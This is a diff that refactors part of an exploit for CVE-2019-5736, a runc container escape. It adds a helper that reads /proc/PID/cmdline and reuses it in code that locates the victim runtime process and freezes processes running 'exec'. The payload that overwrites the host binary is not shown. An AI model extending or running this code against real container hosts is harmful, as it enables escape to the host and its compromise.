@@ -28,6 +28,18 @@ static int report(long r) {
     return 0;
 }
 
+/* Up to `size` bytes of /proc/PID/cmdline (NUL-separated arguments); -1 when it is gone. */
+static ssize_t read_cmdline(int pid, char *cmd, size_t size) {
+    char p[64];
+    snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
+    int c = open(p, O_RDONLY);
+    if (c < 0)
+        return -1;
+    ssize_t n = read(c, cmd, size);
+    close(c);
+    return n;
+}
+
 /* CVE-2019-5736, the attacker's half. Make FIFO; find a process whose argv[0] is
  * "/proc/self/exe" (the runtime binary, run inside the container by the kernel when the runtime
  * exec'd that path or a "#!/proc/self/exe" script) with FIFO among its arguments, and hold its
@@ -47,12 +59,7 @@ static int catch_exe(const char *fifo) {
             if (pid <= 0 || pid == getpid())
                 continue;
             char p[64], cmd[512] = {0};
-            snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
-            int c = open(p, O_RDONLY);
-            if (c < 0)
-                continue;
-            ssize_t n = read(c, cmd, sizeof cmd - 1);
-            close(c);
+            ssize_t n = read_cmdline(pid, cmd, sizeof cmd - 1);
             /* the victim: argv[0] "/proc/self/exe" and FIFO among its arguments */
             if (n <= 0 || strcmp(cmd, "/proc/self/exe"))
                 continue;
@@ -184,13 +191,8 @@ static void __attribute__((noreturn)) stop_execs(void) {
         for (int pid; (pid = next_pid(d));) {
             if (pid == 1)
                 continue;
-            char p[64], cmd[4096];
-            snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
-            int c = open(p, O_RDONLY);
-            if (c < 0)
-                continue;
-            ssize_t n = read(c, cmd, sizeof cmd - 1);
-            close(c);
+            char cmd[4096];
+            ssize_t n = read_cmdline(pid, cmd, sizeof cmd - 1);
             for (char *a = cmd; n > 0 && a < cmd + n; a += strlen(a) + 1)
                 if (!strcmp(a, "exec")) {
                     kill(pid, SIGSTOP);
